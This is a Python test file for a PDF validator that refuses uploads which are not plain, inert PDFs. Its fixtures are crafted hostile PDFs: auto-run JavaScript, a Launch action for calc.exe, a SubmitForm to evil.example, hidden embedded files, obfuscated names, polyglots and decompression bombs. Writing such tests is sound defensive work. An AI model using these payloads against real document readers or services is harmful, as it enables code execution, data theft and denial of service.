"""What goes to a buyer as a PDF is one, and can do nothing by itself, whatever it is called."""

import base64
import os
import time
import zlib

import pytest

from messaging.pdf import Unsound, examine
from tests.messaging.pdfs import make_pdf, stream

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def test_a_plain_pdf_is_taken() -> None:
    assert examine(make_pdf(objects=(stream(b"BT /F1 12 Tf (Wash at 30 degrees) Tj ET"),))) is None


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", Unsound.EMPTY),
        (b"PK\x03\x04 a docx that is called .pdf", Unsound.NOT_PDF),
        (b"MZ\x90\x00" + make_pdf(), Unsound.NOT_PDF),
        (b"<html><script>1</script></html>", Unsound.NOT_PDF),
        (make_pdf()[:-40], Unsound.BROKEN),
        (b"%PDF-1.5\n", Unsound.BROKEN),
        (make_pdf().replace(b"/Root", b"/Toor"), Unsound.BROKEN),
        (make_pdf().replace(b"startxref\n", b"startxref\n9"), Unsound.BROKEN),
        (make_pdf() + b"PK\x03\x04" + b"a zip behind it" * 300, Unsound.MORE),
        (make_pdf() + b"<script>1</script>", Unsound.MORE),
        (make_pdf(trailer=b"/Encrypt 4 0 R"), Unsound.ENCRYPTED),
        (make_pdf(trailer=b"/Encr#79pt 4 0 R"), Unsound.ENCRYPTED),
        (make_pdf(catalog=b"/OpenAction " + SCRIPT), Unsound.ACTIVE),
        (make_pdf(catalog=b"/OpenAction << /S /Java#53#63ript /JS (1) >>"), Unsound.ACTIVE),
        (make_pdf(objects=(b"<< /S /Launch /F (calc.exe) >>",)), Unsound.ACTIVE),
        (make_pdf(objects=(b"<< /S /SubmitForm /F (https://evil.example) >>",)), Unsound.ACTIVE),
        (make_pdf(catalog=b"/Names << /EmbeddedFiles 5 0 R >>"), Unsound.ACTIVE),
        (make_pdf(objects=(b"<< /Subtype /RichMedia >>",)), Unsound.ACTIVE),
        (make_pdf(objects=(stream(b"4 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4"),)), Unsound.ACTIVE),
        (make_pdf(objects=(stream(b"4 0 " + SCRIPT),)), Unsound.ACTIVE),
        (make_pdf(objects=(stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'),)), Unsound.ACTIVE),
        (make_pdf(objects=(b"<< /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream",)), Unsound.OPAQUE),
        (make_pdf(objects=(stream(SCRIPT, b"/N 1 /First 4 /DecodeParms << /Predictor 12 >>"),)), Unsound.OPAQUE),
    ],
)
def test_what_is_no_pdf_or_could_act_is_refused_with_a_sentence(content: bytes, reason: Unsound) -> None:
    assert examine(content) is reason
    assert reason.value.endswith((".", "that."))


def test_a_script_in_text_around_what_is_deflated_is_found() -> None:
    text = base64.a85encode(zlib.compress(b"4 0 " + SCRIPT)) + b"~>"
    entries = b"/Filter [/ASCII85Decode /FlateDecode] /Type /ObjStm /N 1 /First 4"
    assert examine(make_pdf(objects=(stream(text, entries, is_deflated=False),))) is Unsound.ACTIVE


def test_a_script_before_a_damage_is_found() -> None:
    packed = zlib.compress(SCRIPT + os.urandom(5000))[:-2000] + b"damage"
    made = make_pdf(objects=(b"<< /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream",))
    assert examine(made) is Unsound.ACTIVE


def test_words_about_scripts_in_the_text_of_a_page_are_no_scripts() -> None:
    assert examine(make_pdf(objects=(stream(b"(This manual explains JavaScript and /LaunchPad)"),))) is None


@pytest.mark.parametrize(
    "content",
    [
        make_pdf(objects=(stream(bytes(200_000_000)),)),
        make_pdf(objects=(b"stream\n\x78\x9c" * 1_000_000,)),
        make_pdf(objects=((b"stream\n" + zlib.compress(b"a" * 900)) * 200_000,)),
        make_pdf(objects=(b"stream\n!!!!!!!!!!!!!!!!!!!!" * 300_000,)),
        make_pdf(objects=(b"stream\n!!!!!!!!!!!!!!!!!!!!" * 300_000 + b"~>",)),
        make_pdf(objects=(b"/" * 9_000_000,)),
        make_pdf(objects=(b"startxref 1 " * 800_000,)),
        make_pdf(objects=(b"~>" * 4_500_000,)),
    ],
    ids=["a bomb", "streams", "small streams", "open text", "closed text", "slashes", "ends", "ends of text"],
)
def test_what_is_made_to_take_long_does_not(content: bytes) -> None:
    began = time.process_time()
    examine(content)
    assert time.process_time() - began < 8
